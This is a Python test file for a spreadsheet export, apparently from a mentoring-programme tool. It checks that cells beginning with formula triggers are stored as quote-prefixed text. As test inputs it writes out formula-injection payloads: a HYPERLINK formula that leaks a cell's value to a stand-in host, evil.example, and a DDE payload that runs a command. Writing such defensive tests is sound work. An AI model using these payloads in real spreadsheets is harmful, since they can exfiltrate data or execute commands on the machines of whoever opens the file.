"""Every formula trigger, cell by cell: text a spreadsheet could run is a quote-prefixed string.

Each exported cell whose text starts with "=", "+", "-", "@", a tab or a carriage
return (OWASP's CSV injection list, plus CR) must be a string cell (``t="s"`` or
``t="inlineStr"``, no ``<f>``) whose own style has ``quotePrefix="1"``, so Excel
neither runs it on opening nor when the cell is edited. Checked in the file's
XML and read back with openpyxl, for each trigger and each cell on its own.
"""

from __future__ import annotations

import zipfile
from pathlib import Path, PurePosixPath

import openpyxl
import pytest
from defusedxml import ElementTree
from openpyxl.utils import get_column_letter

from mentordesk.domain.enums import ApplicationStatus, Role
from mentordesk.formats.xlsx_export import FORMULA_TRIGGERS, SheetData, write_table
from mentordesk.services.applicants import ApplicationInput, PersonInput, add_applicant
from mentordesk.services.exporting import export_programme, export_view
from mentordesk.services.programmes import strand_choices
from mentordesk.store.programme_file import ProgrammeFile

#: Written out here, not read from the code: dropping one there must fail here.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
RELS = "{http://schemas.openxmlformats.org/package/2006/relationships}"
DOC_RELS = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"


def _payloads(trigger: str) -> list[str]:
    """Texts starting with ``trigger``: bare, a sum, a link that leaks a cell, a DDE call."""
    return [
        trigger,
        f"{trigger}1+1",
        f'{trigger}HYPERLINK("http://evil.example/?"&A1,"Open")',
        f"{trigger}cmd|' /C calc'!A0",
    ]


def _sheet_parts(archive: zipfile.ZipFile) -> dict[str, str]:
    """The XML part of each sheet of a workbook, by the sheet's name."""
    workbook = ElementTree.fromstring(archive.read("xl/workbook.xml"))
    rels = ElementTree.fromstring(archive.read("xl/_rels/workbook.xml.rels"))
    targets = {rel.get("Id"): rel.get("Target") for rel in rels.iter(f"{RELS}Relationship")}
    parts = {}
    for sheet in workbook.iter(f"{MAIN}sheet"):
        target = targets[sheet.get(f"{DOC_RELS}id")]
        parts[sheet.get("name")] = str(PurePosixPath("xl") / target.removeprefix("/xl/"))
    return parts


def xml_cells(path: Path, sheet: str) -> dict[str, tuple[str | None, bool, bool]]:
    """Each cell of a sheet as stored: its type, whether it holds a formula, its quote prefix."""
    with zipfile.ZipFile(path) as archive:
        styles = ElementTree.fromstring(archive.read("xl/styles.xml"))
        cell_xfs = styles.find(f"{MAIN}cellXfs")
        assert cell_xfs is not None
        quoted = [xf.get("quotePrefix") in ("1", "true") for xf in cell_xfs.iter(f"{MAIN}xf")]
        root = ElementTree.fromstring(archive.read(_sheet_parts(archive)[sheet]))
    return {
        cell.get("r"): (
            cell.get("t"),
            cell.find(f"{MAIN}f") is not None,
            quoted[int(cell.get("s", "0"))],
        )
        for cell in root.iter(f"{MAIN}c")
    }


def assert_text_cell(path: Path, sheet: str, ref: str, text: str) -> None:
    """The cell at ``ref`` is a quote-prefixed string cell holding exactly ``text``."""
    data_type, formula, quote_prefixed = xml_cells(path, sheet)[ref]
    assert data_type in ("s", "inlineStr"), (ref, repr(text), data_type)
    assert not formula, (ref, repr(text))
    assert quote_prefixed, (ref, repr(text))
    cell = openpyxl.load_workbook(path)[sheet][ref]
    assert cell.value == text
    assert cell.data_type == "s"
    assert cell.quotePrefix is True, (ref, repr(text))


def test_the_code_knows_every_trigger() -> None:
    assert set(TRIGGERS) <= set(FORMULA_TRIGGERS)


@pytest.mark.parametrize("trigger", TRIGGERS, ids=repr)
def test_each_trigger_makes_every_cell_it_starts_a_quote_prefixed_string(
    tmp_path: Path, trigger: str
) -> None:
    path = tmp_path / "people.xlsx"
    texts = _payloads(trigger)
    write_table(
        path,
        [
            SheetData(
                "People",
                [f"{trigger}Header", "Name", "Number", *(f"Text {n}" for n in range(len(texts)))],
                [
                    ["Ada Lovelace", "a=b", -1, *texts],
                    [*texts, "1-2", 2, "x@example.org"],
                ],
            )
        ],
    )
    assert_text_cell(path, "People", "A1", f"{trigger}Header")
    for offset, text in enumerate(texts):
        assert_text_cell(path, "People", f"{get_column_letter(4 + offset)}2", text)
        assert_text_cell(path, "People", f"{get_column_letter(1 + offset)}3", text)
    # Nothing else is prefixed: plain text, text with a trigger inside, negative numbers.
    cells = xml_cells(path, "People")
    for ref in ("B1", "A2", "B2", "C2", "E3", "F3", "G3"):
        assert not cells[ref][2], ref
    sheet = openpyxl.load_workbook(path)["People"]
    assert sheet["C2"].value == -1
    assert sheet["C2"].data_type == "n"


@pytest.mark.parametrize("trigger", TRIGGERS, ids=repr)
def test_the_view_export_quotes_each_trigger(tmp_path: Path, trigger: str) -> None:
    path = tmp_path / "view.xlsx"
    export_view(path, "Applicants", ["Name", "Goals"], [["Ada", f"{trigger}SUM(1,2)"]])
    assert_text_cell(path, "Applicants", "B2", f"{trigger}SUM(1,2)")


def test_the_programme_export_quotes_each_trigger_a_person_typed(
    programme_file: ProgrammeFile, programme_id: int, tmp_path: Path
) -> None:
    # Names and other fields are trimmed when saved, so a leading tab or CR never
    # reaches the file this way; the four printable triggers do.
    typed = {
        "organisation": "=1+1",
        "department": "+1+1",
        "position": "-1+1",
        "field": '@HYPERLINK("http://evil.example","x")',
    }
    with programme_file.session() as session:
        strand_id = strand_choices(session, programme_id)[0].id
        add_applicant(
            session,
            PersonInput("Ada", "Lovelace", "ada@example.org", **typed),
            ApplicationInput(strand_id, Role.MENTEE, ApplicationStatus.ACCEPTED),
        )
    path = tmp_path / "programme.xlsx"
    with programme_file.session() as session:
        export_programme(session, programme_id, path)
    sheet = openpyxl.load_workbook(path)["People"]
    headers = [cell.value for cell in sheet[1]]
    row = next(
        r for r in range(2, sheet.max_row + 1) if sheet.cell(r, 3).value == "ada@example.org"
    )
    assert sorted(text[0] for text in typed.values()) == sorted("=+-@")
    for field, text in typed.items():
        column = headers.index(field.capitalize())
        ref = sheet.cell(row, column + 1).coordinate
        assert_text_cell(path, "People", ref, text)
